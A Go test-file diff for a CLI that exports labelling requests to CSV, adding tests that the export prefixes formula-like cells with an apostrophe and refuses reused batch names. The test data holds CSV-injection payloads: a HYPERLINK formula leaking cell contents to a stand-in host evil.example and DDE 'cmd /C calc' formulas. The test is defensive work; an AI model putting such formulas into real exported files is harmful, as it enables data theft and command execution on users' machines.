@@ -3,6 +3,7 @@ package main
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"errors"
 	"fmt"
 	"log/slog"
@@ -149,7 +150,7 @@ SELECT concat('r', toString(number)), toDateTime('2026-03-01 00:00:00', 'UTC') +
 
 	_, stderr, code = runCLI(t, "labels", "requests", "--clickhouse", dsn, "--out", out, "--batch", "b1")
 	require.Equal(t, 0, code, stderr)
-	require.Contains(t, stderr, "8 responses from 1 domains (batch b1)")
+	require.Contains(t, stderr, "8 responses from 1 domain (batch b1)")
 	b, err := os.ReadFile(out)
 	require.NoError(t, err)
 	require.Equal(t, 9, strings.Count(string(b), "\n"), "CSV header and 8 requests:\n%s", b)
@@ -259,4 +260,98 @@ func localServer(t *testing.T) *clickhouse.Server {
 	require.NoError(t, err)
 	t.Cleanup(func() { srv.Stop() })
 	return srv
+}
+
+// Usage errors of labels requests exit 2, as a missing --out does; before,
+// --per-domain 0 and --domains 0 reached the server and exited 1.
+func TestLabelsRequestsUsage(t *testing.T) {
+	out := filepath.Join(t.TempDir(), "r.csv")
+	for _, args := range [][]string{
+		{"--per-domain", "0"},
+		{"--domains", "0"},
+		{"--domains", "-3"},
+		{"--expire-after", "0s"},
+	} {
+		_, stderr, code := runCLI(t, append([]string{"labels", "requests", "--clickhouse", "clickhouse://127.0.0.1:1/default", "--out", out}, args...)...)
+		require.Equal(t, 2, code, "%v: %s", args, stderr)
+		require.Contains(t, stderr, "must be positive", args)
+	}
+}
+
+// labels requests --out x.csv wrote the strings of whoever sent the
+// responses as they came, and a spreadsheet runs a cell that starts with
+// = + - @ as a formula. Such cells get an apostrophe in front now (the JSON
+// Lines file is left as it is), and labels import takes it off trace_id, so
+// the filled-in file still joins its responses. --batch with a name
+// label_requests holds already is refused (before, a second run appended to
+// that batch); "1 domain" is singular.
+func TestLabelsRequestsSpreadsheetSafe(t *testing.T) {
+	dsn := migratedServer(t)
+	ctx := context.Background()
+	conn := openServer(t, dsn)
+	ids := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")-1`, "-5", "@SUM(1+1)", "'quoted", "+x", "plain-1", "plain-2", "plain-3"}
+	var quoted []string
+	for _, id := range ids {
+		quoted = append(quoted, "'"+strings.NewReplacer(`\`, `\\`, `'`, `\'`).Replace(id)+"'")
+	}
+	require.NoError(t, conn.Exec(ctx, `INSERT INTO default.scored (trace_id, ts, model, domain, p_correct, status, prompt)
+SELECT id, toDateTime('2026-03-01 00:00:00', 'UTC') + rowNumberInAllBlocks(), 'm1', '=cmd|\' /C calc\'!A0', 0.5, 'ok', '@SUM(1+1)*cmd|\' /C calc\'!A0'
+FROM (SELECT arrayJoin([`+strings.Join(quoted, ", ")+`]) AS id)`))
+	dir := t.TempDir()
+	csvPath := filepath.Join(dir, "batch.csv")
+	_, stderr, code := runCLI(t, "labels", "requests", "--clickhouse", dsn, "--out", csvPath, "--per-domain", "5", "--batch", "r1")
+	require.Equal(t, 0, code, stderr)
+	require.Contains(t, stderr, "5 responses from 1 domain (batch r1)")
+
+	_, stderr, code = runCLI(t, "labels", "requests", "--clickhouse", dsn, "--out", filepath.Join(dir, "again.jsonl"), "--per-domain", "5", "--batch", "r1")
+	require.Equal(t, 1, code, stderr)
+	require.Contains(t, stderr, "--batch r1: default.label_requests holds a batch of that name already (5 requests); give a new name")
+	_, err := os.Stat(filepath.Join(dir, "again.jsonl"))
+	require.True(t, os.IsNotExist(err), "no file for a refused batch")
+	jsonPath := filepath.Join(dir, "batch2.jsonl")
+	_, stderr, code = runCLI(t, "labels", "requests", "--clickhouse", dsn, "--out", jsonPath, "--per-domain", "5", "--batch", "r2")
+	require.Equal(t, 0, code, stderr)
+	require.Contains(t, stderr, "3 responses from 1 domain (batch r2)")
+
+	f, err := os.Open(csvPath)
+	require.NoError(t, err)
+	recs, err := csv.NewReader(f).ReadAll()
+	f.Close()
+	require.NoError(t, err)
+	require.Len(t, recs, 6)
+	var exported []string
+	for _, rec := range recs[1:] {
+		for _, cell := range rec {
+			require.False(t, cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r"), "a cell a spreadsheet runs: %q", cell)
+		}
+		exported = append(exported, rec[0])
+	}
+	require.Equal(t, "'=cmd|' /C calc'!A0", recs[1][2], "domain")
+	require.Equal(t, "'@SUM(1+1)*cmd|' /C calc'!A0", recs[1][9], "prompt")
+	b, err := os.ReadFile(jsonPath)
+	require.NoError(t, err)
+	require.Contains(t, string(b), `"domain":"=cmd|' /C calc'!A0"`, "JSON Lines as it is")
+
+	// The labeler fills in correct; labels import joins every row to its response.
+	var buf bytes.Buffer
+	cw := csv.NewWriter(&buf)
+	for i, rec := range recs {
+		if i == 0 {
+			require.NoError(t, cw.Write(append(rec, "correct")))
+		} else {
+			require.NoError(t, cw.Write(append(rec, "1")))
+		}
+	}
+	cw.Flush()
+	require.NoError(t, os.WriteFile(csvPath, buf.Bytes(), 0o644))
+	_, stderr, code = runCLI(t, "labels", "import", "--clickhouse", dsn, "--in", csvPath)
+	require.Equal(t, 0, code, stderr)
+	require.Contains(t, stderr, "labels import: 5 labels stored\n", "every label matches its response")
+	got := latest(t, conn)
+	require.Len(t, got, 5)
+	for _, cell := range exported {
+		id := strings.TrimPrefix(cell, "'") // the one apostrophe SpreadsheetCell put there, if any
+		require.Contains(t, ids, id)
+		require.Contains(t, got, id, "the label of %q is stored under the response's id", cell)
+	}
 }
